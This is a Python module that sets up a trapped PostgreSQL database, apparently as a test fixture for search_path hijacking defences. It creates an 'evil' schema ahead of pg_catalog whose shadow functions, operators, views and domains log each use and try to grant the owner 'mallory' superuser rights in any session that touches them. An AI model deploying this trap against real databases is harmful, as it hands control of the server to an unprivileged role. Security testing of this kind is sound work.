"""A database whose owner lies in wait for everybody who connects: a schema before PostgreSQL's own in the search_path, with an operator,
a function, a type and a view for all that pg_catalog has. Each does what PostgreSQL's own does, says in the server's log that it was called,
and tries to make its owner a superuser."""
import psycopg

OWNER = "mallory"
MARK = "hostile: "

SCHEMA = f"""
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE FUNCTION evil.pounce(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
    RAISE LOG '{MARK}% as %', what, session_user;
    BEGIN
        ALTER ROLE {OWNER} SUPERUSER;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN true;
END $$;
"""

# Whatever cannot be made (of internal types and the like) nobody can use against us either.
FUNCTIONS = """
DO $do$
DECLARE f record;
BEGIN
    FOR f IN SELECT p.proname, pg_get_function_identity_arguments(p.oid) AS arguments, pg_get_function_result(p.oid) AS result,
                    format('pg_catalog.%I(%s)', p.proname, (SELECT string_agg('$' || n, ', ') FROM generate_series(1, p.pronargs) n)) AS real
             FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.oid < 16384
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', f.proname, f.arguments, f.result,
                           format('BEGIN PERFORM evil.pounce(%L); %s; END', 'function ' || f.proname,
                                  CASE WHEN f.result LIKE 'SETOF%' OR f.result LIKE 'TABLE%' THEN 'RETURN QUERY SELECT * FROM ' || f.real
                                       WHEN f.result = 'void' THEN 'PERFORM ' || f.real ELSE 'RETURN ' || f.real END));
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $do$
"""

OPERATORS = """
DO $do$
DECLARE each record;
BEGIN
    FOR each IN SELECT o.oid, o.oprname, format_type(nullif(o.oprleft, 0), NULL) AS l, format_type(o.oprright, NULL) AS r, format_type(o.oprresult, NULL) AS result
             FROM pg_operator o WHERE o.oprnamespace = 'pg_catalog'::regnamespace
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.operator_%s(%s) RETURNS %s LANGUAGE plpgsql AS %L', each.oid, concat_ws(', ', each.l, each.r), each.result,
                           format('BEGIN PERFORM evil.pounce(%L); RETURN %s OPERATOR(pg_catalog.%s) %s; END', 'operator ' || each.oprname,
                                  CASE WHEN each.l IS NOT NULL THEN '$1' END, each.oprname, CASE WHEN each.l IS NOT NULL THEN '$2' ELSE '$1' END));
            EXECUTE format('CREATE OPERATOR evil.%s (FUNCTION = evil.operator_%s, %s RIGHTARG = %s)', each.oprname, each.oid, 'LEFTARG = ' || each.l || ',', each.r);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $do$
"""

VIEWS_AND_TYPES = """
DO $do$
DECLARE c record;
BEGIN
    FOR c IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') LOOP
        BEGIN
            EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%I WHERE evil.pounce(%L)', c.relname, c.relname, 'view ' || c.relname);
            EXECUTE format('GRANT SELECT ON evil.%I TO PUBLIC', c.relname);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    FOR c IN SELECT typname, format_type(oid, NULL) AS base FROM pg_type
             WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typname NOT LIKE '\\_%' LOOP
        BEGIN
            EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.pounce(%L))', c.typname, c.typname, 'type ' || c.typname);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $do$
"""


def lay_trap(straight, database):
    """The database belongs to an ordinary role from now on. Gives that role's place."""
    password = "of mallory"
    name = f'"{database}"'
    straight.sql(f"DO $$ BEGIN CREATE ROLE {OWNER} LOGIN CREATEDB PASSWORD '{password}'; EXCEPTION WHEN duplicate_object THEN NULL; END $$")
    straight.sql(f"ALTER DATABASE {name} OWNER TO {OWNER}")
    owner = straight.at(user=OWNER, password=password, dbname=database)
    with owner.connect() as session:
        for step in (SCHEMA, FUNCTIONS, OPERATORS, VIEWS_AND_TYPES):
            session.execute(step)
        session.execute(f"ALTER DATABASE {name} SET search_path = evil, pg_catalog, public")
    return owner


def is_armed(owner):
    """Whether a session without our care would have been caught: by an operator, a function, a view and a type."""
    for bait in ("SELECT 1 WHERE 'a'::name = 'b'::name", "SELECT pg_is_in_recovery()", "SELECT 1 FROM pg_class LIMIT 1", "SELECT 'a'::text"):
        try:
            owner.sql(bait)
        except psycopg.Error:
            pass
